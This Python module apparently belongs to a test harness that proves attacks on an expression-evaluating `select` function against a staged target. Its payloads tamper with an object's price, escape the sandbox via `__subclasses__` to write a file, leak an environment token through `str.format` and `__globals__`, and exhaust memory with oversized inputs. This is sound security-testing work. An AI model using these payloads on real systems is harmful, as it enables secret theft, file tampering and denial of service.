"""Attacks through conditions."""

from prover import Target

from .stage import Stage

TOKEN = "'{0.__init__.__globals__[os].environ[SHOP_TOKEN]}'.format(item)"


def attack_change_a_price(target: Target, stage: Stage) -> bool:
    """Set the price instead of comparing it, with a method that every object has."""
    target.select(stage.items, "item.__setattr__('price', 0.01)")
    print(stage.lamp)
    return stage.lamp.price == 0.01


def attack_write_a_file(target: Target, stage: Stage) -> bool:
    """Go from the item to `object`, and from there to a class that writes files."""
    classes = "item.__class__.__base__.__subclasses__()"
    loader = f"[item for item in {classes} if item.__name__ == 'FileLoader'][0]"
    loaders = f"{loader}.__subclasses__()"
    writer = f"[item for item in {loaders} if item.__name__ == 'SourceFileLoader'][0]"
    target.select(stage.items, f"{writer}.set_data(None, 'marker.txt', b'')")
    print("marker.txt exists:", stage.marker.exists())
    return stage.marker.exists()


def attack_read_by_format(target: Target, stage: Stage) -> bool:
    """Let `str.format` fetch the token, and guess it letter by letter."""
    known = ""
    while len(known) < 40:
        for letter in "0123456789abcdef-srt":
            condition = f"{TOKEN}.startswith('{known + letter}')"
            if target.select(stage.items, condition):
                known += letter
                break
        else:
            break
    print("the token of the shop:", known)
    return known == stage.secret


def attack_long_text(target: Target, stage: Stage) -> bool:
    """Repeat the name a million times, then compare it."""
    small = stage.memory_of(lambda: target.select(stage.items, "item.name * 1 == 'x'"))
    large = stage.memory_of(
        lambda: target.select(stage.items, "item.name * 1000000 == 'x'")
    )
    print("six more letters took a megabyte more:", large - small > 1_000_000)
    return large - small > 1_000_000


def attack_long_condition(target: Target, stage: Stage) -> bool:
    """Send 66 kB of harmless comparisons: the syntax tree takes a hundred times as much."""
    condition = " and ".join(["1 == 1"] * 6_000)
    most = stage.memory_of(lambda: target.select(stage.items, condition))
    print(f"{len(condition)} characters took more than a megabyte:", most > 1_000_000)
    return most > 1_000_000
